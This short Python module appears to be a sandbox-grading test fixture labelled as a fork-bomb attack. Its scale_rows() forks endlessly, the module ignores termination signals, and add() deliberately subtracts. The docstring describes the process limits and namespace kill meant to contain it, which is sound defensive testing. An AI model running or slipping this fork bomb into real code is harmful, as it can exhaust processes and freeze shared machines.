"""Attack: a fork bomb.

scale_rows() forks in a loop in every process it creates, and processes
that cannot fork spin. RLIMIT_NPROC (limits.processes = 64, counted per
sandbox uid) caps the number of processes, the call's time limit stops the
call, and killing the sandbox's PID namespace takes every process with it.
The machine must stay responsive and no process of the sandbox uid may
outlive the grading run. add() is wrong.
"""
import os
import signal

for _sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
    signal.signal(_sig, signal.SIG_IGN)


def add(a, b):
    return a - b


def scale_rows(x, w):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def bump(config):
    config["count"] = config.get("count", 0) + 1
    return config["count"]


def apply(f, x):
    return f(x) + 1.0
